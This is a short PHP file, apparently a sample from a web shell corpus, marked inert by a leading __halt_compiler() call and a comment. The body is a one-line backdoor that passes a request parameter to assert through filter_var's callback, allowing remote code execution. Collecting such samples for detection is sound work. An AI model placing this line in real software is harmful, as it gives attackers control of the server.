<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
filter_var($_REQUEST['om'], FILTER_CALLBACK, array('options' => 'assert'));
